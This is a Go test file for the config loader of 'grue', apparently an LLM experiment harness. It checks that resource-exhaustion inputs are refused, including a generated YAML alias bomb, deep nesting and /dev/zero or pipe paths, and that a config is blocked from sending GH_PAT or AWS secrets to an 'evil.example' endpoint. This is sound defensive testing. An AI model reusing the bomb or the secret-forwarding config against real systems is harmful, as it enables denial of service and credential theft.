package harness

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/grue-lab/grue/agent/llm/llmtest"
	"github.com/grue-lab/grue/internal/boundedfile"
)

// TestConfigRejectsHugeCounts is the attack of issue 11, item 15:
// `trials: 1000000000000` made a slice of a trillion seeds, a fatal
// out-of-memory. Every count has a limit, reported where it is given.
func TestConfigRejectsHugeCounts(t *testing.T) {
	many := func(n int, f func(i int) string) string {
		var parts []string
		for i := range n {
			parts = append(parts, f(i))
		}
		return strings.Join(parts, ", ")
	}
	cases := []struct {
		name, yaml string
		line, col  int
		field, msg string
	}{
		{"trials", "name: x\nvariants: [{name: a}]\ngames: [lantern]\ntrials: 1000000000000\n", 4, 9, "trials", "1000000000000 trials, more than the limit of 10000"},
		{"seeds", "name: x\nvariants: [{name: a}]\ngames: [lantern]\nseeds: [" + many(MaxSeeds+1, func(i int) string { return fmt.Sprint(i) }) + "]\n", 4, 8, "seeds", "10001 seeds, more than the limit"},
		{"games", "name: x\nvariants: [{name: a}]\ngames: [" + many(MaxGames+1, func(i int) string { return fmt.Sprintf("g%d", i) }) + "]\n", 3, 8, "games", "1001 games, more than the limit"},
		{"variants", "name: x\nvariants: [" + many(MaxVariants+1, func(i int) string { return fmt.Sprintf("{name: v%d}", i) }) + "]\ngames: [lantern]\n", 2, 11, "variants", "101 variants, more than the limit"},
		{"steps", "name: x\nvariants: [{name: a}]\ngames: [lantern]\nmax_steps: 2000000000\n", 4, 12, "max_steps", "more than the limit of 100000"},
		{"parallel", "name: x\nvariants: [{name: a}]\ngames: [lantern]\nparallel: 1000000\n", 4, 11, "parallel", "more than the limit of 256"},
		{"retries", "name: x\nvariants: [{name: a}]\ngames: [lantern]\nretries: 1000000000\n", 4, 10, "retries", "more than the limit of 100"},
		{"episodes", "name: x\nvariants: [" + many(50, func(i int) string { return fmt.Sprintf("{name: v%d}", i) }) + "]\ngames: [lantern, zork1, g3]\ntrials: 1000\n", 4, 9, "trials", "50 variants x 3 games x 1000 seeds = 150000 episodes, more than the limit of 100000"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := writeConfig(t, "exp.yaml", c.yaml)
			start := time.Now()
			_, err := LoadConfig(path)
			errorAt(t, err, path, c.line, c.col, c.field, c.msg)
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("refusing it took %v", d)
			}
		})
	}

	// In code, without LoadConfig: Run refuses it, and SeedList stays
	// bounded for a caller that never validates.
	cfg := &Config{Name: "huge", Variants: []Variant{{Name: "r", Policy: PolicyRandom}}, Games: []string{"lantern"}, Trials: 1_000_000_000_000}
	if _, err := Run(context.Background(), cfg, RunOptions{Out: filepath.Join(t.TempDir(), "run")}); err == nil || !strings.Contains(err.Error(), "limit of 10000") {
		t.Errorf("Run of a trillion trials: %v", err)
	}
	if n := len(cfg.SeedList()); n != MaxSeeds {
		t.Errorf("SeedList made %d seeds, want at most %d", n, MaxSeeds)
	}
	ok := &Config{Name: "ok", Variants: []Variant{{Name: "r", Policy: PolicyRandom}}, Games: []string{"lantern"}}
	if _, err := Run(context.Background(), ok, RunOptions{Out: filepath.Join(t.TempDir(), "run"), Parallel: MaxParallel + 1}); err == nil || !strings.Contains(err.Error(), "limit of 256") {
		t.Errorf("Run with RunOptions.Parallel %d: %v", MaxParallel+1, err)
	}
}

// aliasBomb is a 1 KB "billion laughs": nine levels of nine aliases,
// 9^9 strings once expanded. Decoding it passed 3 GB.
func aliasBomb() string {
	lines := []string{"name: bomb", "variants: [{name: a, policy: random}]", "games: [lantern]",
		`x0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]`}
	for i := 1; i < 9; i++ {
		lines = append(lines, fmt.Sprintf("x%d: &a%d [%s]", i, i, strings.Repeat(fmt.Sprintf("*a%d,", i-1), 8)+fmt.Sprintf("*a%d", i-1)))
	}
	return strings.Join(append(lines, "description: *a8"), "\n") + "\n"
}

// TestConfigAliasBomb is the attack of issue 11, item 15: a 1 KB YAML
// alias bomb took the process past 3 GB. It is refused before decoding,
// at the alias that takes it over the limit, with little memory.
func TestConfigAliasBomb(t *testing.T) {
	bomb := aliasBomb()
	if len(bomb) > 1024 {
		t.Fatalf("the bomb is %d bytes, want a 1 KB one", len(bomb))
	}
	path := writeConfig(t, "bomb.yaml", bomb)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := LoadConfig(path)
	runtime.ReadMemStats(&after)
	if err == nil || !strings.Contains(err.Error(), path+":9:10:") || !strings.Contains(err.Error(), "alias") {
		t.Fatalf("error %v: want the bomb refused at 9:10, the first alias that takes it past the limit", err)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
		t.Errorf("refusing the bomb allocated %d MB", grew>>20)
	}

	// Aliases in moderation are fine.
	path = writeConfig(t, "ok.yaml", "name: x\nvariants:\n  - {name: a, policy: &p random}\n  - {name: b, policy: *p}\ngames: [lantern]\nseeds: [1, 2]\n")
	cfg, err := LoadConfig(path)
	if err != nil || len(cfg.Variants) != 2 || cfg.Variants[1].Policy != PolicyRandom {
		t.Fatalf("a config with a few aliases: %+v, %v", cfg, err)
	}
}

// TestConfigDeepNesting: go-yaml's parser takes time and memory that grow
// faster than how deep values nest (120,000 nested dashes in 240 KB took
// it past 2.7 GB); such a document is refused before it is parsed.
func TestConfigDeepNesting(t *testing.T) {
	for name, c := range map[string]struct {
		yaml      string
		line, col int
	}{
		"flow":  {"name: x\ndescription: " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n", 2, 78},
		"block": {"name: x\ndescription:\n  " + strings.Repeat("- ", 100_000) + "x\n", 3, 129},
	} {
		t.Run(name, func(t *testing.T) {
			path := writeConfig(t, "deep.yaml", c.yaml)
			start := time.Now()
			_, err := LoadConfig(path)
			want := fmt.Sprintf("%s:%d:%d: values nest deeper than the limit of %d", path, c.line, c.col, MaxConfigDepth)
			if err == nil || err.Error() != want {
				t.Errorf("error %v, want %s", err, want)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("refusing it took %v", d)
			}
		})
	}
	path := writeConfig(t, "ok.yaml", "name: x\nvariants:\n  - name: a\n    policy: random\n    tools: [play_action, valid_actions]\ngames: [lantern]\n")
	if _, err := LoadConfig(path); err != nil {
		t.Errorf("an ordinary config: %v", err)
	}
}

// TestConfigFileSize refuses a config too large to be one.
func TestConfigFileSize(t *testing.T) {
	path := writeConfig(t, "big.yaml", "name: x\ndescription: "+strings.Repeat("x", MaxConfigBytes)+"\n")
	_, err := LoadConfig(path)
	if !errors.Is(err, boundedfile.ErrTooLarge) || !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), "256 KiB") {
		t.Errorf("a 1 MB config: %v", err)
	}
	if _, err := ParseConfig(make([]byte, MaxConfigBytes+1), "mem.yaml"); err == nil || !strings.Contains(err.Error(), "mem.yaml: larger than the limit") {
		t.Errorf("ParseConfig of too many bytes: %v", err)
	}
}

// TestConfigSpecialFiles is the attack of issue 11, item 1 on configs: a
// config (or its system_prompt_file) naming /dev/zero grew memory until
// the process died, and a named pipe blocked it forever.
func TestConfigSpecialFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "pipe")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skipf("no named pipes here: %v", err)
	}
	within := func(what string, f func() error) error {
		t.Helper()
		done := make(chan error, 1)
		go func() { done <- f() }()
		select {
		case err := <-done:
			return err
		case <-time.After(5 * time.Second):
			t.Fatalf("%s blocked", what)
			return nil
		}
	}
	for _, special := range []string{"/dev/zero", fifo, dir} {
		err := within("LoadConfig("+special+")", func() error { _, err := LoadConfig(special); return err })
		if !errors.Is(err, boundedfile.ErrNotRegular) || !strings.Contains(err.Error(), special) {
			t.Errorf("LoadConfig(%s): %v, want it refused as not a regular file", special, err)
		}
		path := writeConfig(t, "exp.yaml", "name: x\nvariants:\n  - name: a\n    system_prompt_file: "+special+"\ngames: [lantern]\n")
		err = within("system_prompt_file "+special, func() error { _, err := LoadConfig(path); return err })
		errorAt(t, err, path, 4, 25, "variants[0].system_prompt_file", "not a regular file")
	}
	big := filepath.Join(dir, "big.txt")
	if err := os.WriteFile(big, make([]byte, MaxPromptBytes+1), 0o644); err != nil {
		t.Fatal(err)
	}
	path := writeConfig(t, "exp.yaml", "name: x\nvariants:\n  - name: a\n    system_prompt_file: "+big+"\ngames: [lantern]\n")
	_, err := LoadConfig(path)
	errorAt(t, err, path, 4, 25, "variants[0].system_prompt_file", "larger than the limit of 1 MiB")
}

// TestConfigAPIKeyEnv is the attack of issue 11, item 13: a config sent
// any environment variable (api_key_env: GH_PAT) to the endpoint of its
// choice. Only the key variables of LLM endpoints may be named.
func TestConfigAPIKeyEnv(t *testing.T) {
	for _, name := range []string{"GH_PAT", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "PGPASSWORD"} {
		path := writeConfig(t, "exp.yaml", "name: x\nvariants:\n  - name: a\n    base_url: https://evil.example/v1\n    model: m\n    api_key_env: "+name+"\ngames: [lantern]\n")
		_, err := LoadConfig(path)
		errorAt(t, err, path, 6, 18, "variants[0].api_key_env", name+" is not the API key variable of an LLM endpoint")
	}
	for _, name := range []string{"OPENAI_API_KEY", "HF_TOKEN", "ANTHROPIC_API_KEY", "GROQ_API_KEY"} {
		path := writeConfig(t, "exp.yaml", "name: x\nvariants:\n  - name: a\n    base_url: https://llm.example/v1\n    model: m\n    api_key_env: "+name+"\ngames: [lantern]\n")
		if _, err := LoadConfig(path); err != nil {
			t.Errorf("api_key_env %s: %v", name, err)
		}
	}

	// A config built in code cannot get past Run either.
	t.Setenv("GH_PAT", "ghp_secret")
	cfg := &Config{Name: "x", Variants: []Variant{{Name: "a", Model: "m", BaseURL: "http://127.0.0.1:1/v1", APIKeyEnv: "GH_PAT"}}, Games: []string{"lantern"}}
	if _, err := Run(context.Background(), cfg, RunOptions{Out: filepath.Join(t.TempDir(), "run")}); err == nil || !strings.Contains(err.Error(), "GH_PAT") {
		t.Errorf("Run with api_key_env GH_PAT: %v", err)
	}
	cfg.Variants[0].APIKeyEnv = "GROQ_API_KEY"
	t.Setenv("GROQ_API_KEY", "")
	if _, err := Run(context.Background(), cfg, RunOptions{Out: filepath.Join(t.TempDir(), "run")}); err == nil || !strings.Contains(err.Error(), "GROQ_API_KEY is not set") {
		t.Errorf("Run with api_key_env naming an unset variable: %v", err)
	}
}

// TestRunRecordsKeyVariableNotKeys checks what a run records of its
// endpoints (issue 11, items 13 and 14): the variable each variant's key
// came from, and base URLs with the credentials in them masked, in the
// manifest, the results and the trajectories, even when the server echoes
// the URL in its errors.
func TestRunRecordsKeyVariableNotKeys(t *testing.T) {
	const urlKey, envKey = "url-secret-7f3a", "env-secret-91c2"
	t.Setenv("GROQ_API_KEY", envKey)
	srv := playerServer(t, 0)
	echo := llmtest.NewServer()
	t.Cleanup(echo.Close)
	echo.Fallback(func(llmtest.Request) llmtest.Response {
		return llmtest.Error(400, "", "no such model at "+echo.URL()+"?api_key="+urlKey)
	})
	cfg := &Config{
		Name: "keys",
		Variants: []Variant{
			{Name: "groq", Model: "scripted", BaseURL: srv.URL() + "?api_key=" + urlKey, APIKeyEnv: "GROQ_API_KEY"},
			{Name: "echo", Model: "scripted", BaseURL: echo.URL() + "?token=" + urlKey},
		},
		Games: []string{"lantern"}, MaxSteps: 3,
	}
	out := filepath.Join(t.TempDir(), "run")
	rs, err := Run(context.Background(), cfg, RunOptions{Out: out})
	if err != nil {
		t.Fatal(err)
	}
	if rs.Len() != 2 {
		t.Fatalf("%d records, want 2", rs.Len())
	}
	reqs := srv.Requests()
	if len(reqs) == 0 || reqs[0].Header.Get("Authorization") != "Bearer "+envKey {
		t.Errorf("the groq variant did not send GROQ_API_KEY's value: %d requests", len(reqs))
	}
	m, err := ReadManifest(out)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"groq": "GROQ_API_KEY", "echo": ""}
	for _, e := range m.Endpoints {
		if e.APIKeyEnv != want[e.Variant] || !strings.Contains(e.BaseURL, "[redacted]") {
			t.Errorf("manifest endpoint %+v: want api_key_env %q and the URL's key masked", e, want[e.Variant])
		}
	}
	err = filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		for _, secret := range []string{urlKey, envKey} {
			if strings.Contains(string(b), secret) {
				t.Errorf("%s holds a key", p)
			}
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	rec, _ := rs.Lookup(EpisodeKey{Variant: "echo", Game: "lantern", Seed: 0})
	if !strings.Contains(rec.Error, "api_key=[redacted]") {
		t.Errorf("the echo variant's error %q: want the echoed URL there, masked", rec.Error)
	}
}

// TestLoadResultsFIFO: grue exp compare on a named pipe blocked forever.
func TestLoadResultsFIFO(t *testing.T) {
	fifo := filepath.Join(t.TempDir(), ResultsFile)
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skipf("no named pipes here: %v", err)
	}
	done := make(chan error, 1)
	go func() { _, err := LoadResults(fifo); done <- err }()
	select {
	case err := <-done:
		if !errors.Is(err, boundedfile.ErrNotRegular) {
			t.Errorf("LoadResults(named pipe) = %v, want it refused", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("LoadResults blocked on a named pipe")
	}
}
